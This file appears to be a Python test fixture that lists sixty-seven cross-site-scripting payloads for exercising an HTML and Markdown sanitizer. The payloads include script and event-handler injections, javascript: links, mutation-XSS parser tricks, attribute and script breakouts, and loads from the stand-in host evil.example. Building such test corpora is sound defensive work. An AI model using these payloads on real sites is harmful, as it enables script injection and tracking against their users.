"""Sixty-seven texts that a stranger would like to see carried out.

Each would set ``__pwned``, open a dialog, or ask another host, had it its way somewhere: in HTML,
in an attribute, a link, a stylesheet, a script's text, or a Markdown that trusts its writer.
"""

HTML = [
    "<script>__pwned=1</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<script\x0b>__pwned=2</script\t\n x>",
    "<scr<script>ipt>__pwned=3</scr</script>ipt>",
    "<img src=x onerror=__pwned=4>",
    "<img/src='x'/onerror='__pwned=5'>",
    "<img src=//evil.example/p.png>",
    "<img srcset='//evil.example/p.png 1x' src=x>",
    "<picture><source srcset=//evil.example/q.png><img></picture>",
    "<video src=x onerror=__pwned=6 autoplay></video>",
    "<video poster=//evil.example/v.png></video>",
    "<audio src=//evil.example/a.mp3 autoplay onerror=__pwned=7>",
    "<body onload=__pwned=8 background=//evil.example/b.png>",
    "<input autofocus onfocus=__pwned=9>",
    "<details open ontoggle=__pwned=10><summary>x</summary></details>",
    "<marquee onstart=__pwned=11>x</marquee>",
    "<iframe src='javascript:parent.__pwned=12'></iframe>",
    '<iframe srcdoc="&lt;script>parent.__pwned=13&lt;/script>"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    "<object data='javascript:__pwned=14'></object>",
    "<object data=//evil.example/o.swf></object>",
    "<embed src='javascript:__pwned=15'>",
    "<svg onload=__pwned=16>",
    "<svg><script href='data:,__pwned=17' /></svg>",
    "<svg><animate onbegin=__pwned=18 attributeName=x dur=1s>",
    "<svg><image href=//evil.example/i.svg></svg>",
    "<svg><foreignObject><img src=x onerror=__pwned=19></foreignObject></svg>",
    "<math><mtext><img src=x onerror=__pwned=20></mtext></math>",
    "<math href='javascript:__pwned=21'>x</math>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<link rel=prefetch href=//evil.example/f>",
    "<style>@import '//evil.example/i.css';*{background:url(//evil.example/z)}</style>",
    "<div style='background:url(//evil.example/d.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/ id=f><input form=f name=x><button>x</button></form>",
    "<button formaction='javascript:__pwned=22'>x</button>",
    "<a href='javascript:__pwned=23'>x</a>",
    "<a href='&#106;avascript&colon;__pwned=24'>x</a>",
    "<dialog open><form method=dialog><button autofocus onfocus=__pwned=25>x</button></form>",
]
MUTATIONS = [
    # What a browser reads otherwise the second time.
    "<noscript><p title='</noscript><img src=x onerror=__pwned=26>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned=27></style></mglyph></table>",
    "<svg></p><style><a id='</style><img src=1 onerror=__pwned=28>'>",
    "<!--><img src=x onerror=__pwned=29>-->",
    "<![CDATA[><img src=x onerror=__pwned=30>]]>",
    "<textarea></textarea><img src=x onerror=__pwned=31>",
    "<title></title><img src=x onerror=__pwned=32>",
    "<xmp></xmp><img src=x onerror=__pwned=33>",
    "<template><img src=x onerror=__pwned=34></template></template><img src=x onerror=__pwned=34>",
]
OUT_OF = [
    # an attribute, a script's text, a comment, a template
    '"><img src=x onerror=__pwned=35>',
    "' autofocus onfocus='__pwned=36' x='",
    "` onmouseover=__pwned=37 x=`",
    "</script><script>__pwned=38</script>",
    "</up-room></main></template><script>__pwned=39</script>",
    '\';__pwned=40;//\u2028__pwned=40;\u2029"+(__pwned=40)+"',
    "\\';__pwned=41;//${__pwned=41}`{{__pwned=41}}{%__pwned%}",
    '{"__proto__":{"x":1},"a":"</script><script>__pwned=42</script>"}',
    "&lt;img src=x onerror=__pwned=43&gt;&#60;script&#62;__pwned=43&#60;/script&#62;",
    "%3Cscript%3E__pwned=44%3C/script%3E\u003cscript\u003e__pwned=44\uff1cscript\uff1e",
]
MARKDOWN = [
    "[x](javascript:__pwned=45) [x](JAVASCRIPT&colon;__pwned=45) [x](<javascript:__pwned=45>)",
    "[x](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTQ2PC9zY3JpcHQ+)",
    "[x](\x01javascript:__pwned=47) [x](java\u00adscript:__pwned=47) [x](vbscript:__pwned)",
    '[x](https://a.example/"onmouseover="__pwned=48) [x](//a.example "x" onclick="__pwned=48")',
    "![x](//evil.example/m.png) ![x](javascript:__pwned=49) <javascript:__pwned=49>",
    "[x]: javascript:__pwned=50\n\n[x] [x][] ![x]",
    "https://a.example/<img/src=x/onerror=__pwned=51> www.a.example/'onfocus='__pwned=51",
    "@ada<img src=x onerror=__pwned=52> **<b onclick=__pwned=52>** `</code><svg onload=alert()>`",
]
PAYLOADS = [*HTML, *MUTATIONS, *OUT_OF, *MARKDOWN]
